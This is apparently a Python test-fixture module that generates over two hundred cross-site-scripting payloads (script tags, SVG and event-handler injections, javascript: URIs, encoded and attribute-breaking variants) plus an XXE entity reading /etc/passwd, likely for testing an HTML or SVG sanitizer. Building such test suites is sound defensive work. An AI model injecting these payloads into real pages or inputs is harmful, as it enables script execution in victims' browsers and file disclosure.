"""More than two hundred texts that would do harm where a picture or a page let them."""

from __future__ import annotations

from itertools import product

_CODE = ("alert(1)", "alert`1`", "window.harmed=1", "top['al'+'ert'](1)")
_TAGS = (
    "<script>{}</script>",
    "<ScRiPt>{}</sCrIpT>",
    "<script/x>{}</script>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<img src=x onerror={}>",
    "<image href=x onerror={}>",
    "<body onload={}>",
    "<iframe srcdoc='<script>{}</script>'>",
    "<foreignObject><body onload={}></foreignObject>",
    "<animate onbegin={} attributeName=x dur=1s>",
    "<set attributeName=href to=javascript:{}>",
    "<use href='data:image/svg+xml,<svg id=x onload={}>#x'>",
    "<a href=javascript:{}>x</a>",
    "<a xlink:href='javascript:{}'>x</a>",
    "<style>@import 'javascript:{}'</style>",
    "<math><mtext><table><mglyph><style><img src onerror={}>",
    "<details open ontoggle={}>",
    "<input autofocus onfocus={}>",
    "<video><source onerror={}></video>",
    "<marquee onstart={}>",
    "<object data='javascript:{}'></object>",
    "<embed src='javascript:{}'>",
    "<form action='javascript:{}'><button>",
    "<meta http-equiv=refresh content='0;javascript:{}'>",
    "<noscript><p title='</noscript><img src onerror={}>'>",
    "<title><img src onerror={}></title>",
    "<template><script>{}</script></template>",
)
_BREAKS = (
    "{}",
    '">{}',
    "'>{}",
    '" {} x="',
    "</title>{}",
    "</text></g></a></svg>{}",
    "]]>{}",
    "--!>{}",
)
_SINGLE = (
    '" onload="alert(1)',
    "' onmouseover='alert(1)",
    '" style="background:url(javascript:alert(1))',
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;script&#x3e;alert(1)",
    "&quot; onload=&quot;alert(1)",
    'x" onload="alert(1)',
    "\\N \\G \\",
    "<b>bold</b>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<!ENTITY x SYSTEM 'file:///etc/passwd'>&x;",
    "{{constructor.constructor('alert(1)')()}}",
    "{% debug %}${alert(1)}",
    "\u202e<script>alert(1)</script>",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "<a href='//evil.example'>x</a>",
    "\ud800<script>alert(1)</script>",
)
PAYLOADS = tuple(
    dict.fromkeys(
        [
            *_SINGLE,
            *(tag.format(code) for tag, code in product(_TAGS, _CODE)),
            *(end.format(tag.format(_CODE[0])) for end, tag in product(_BREAKS[1:], _TAGS)),
        ]
    )
)
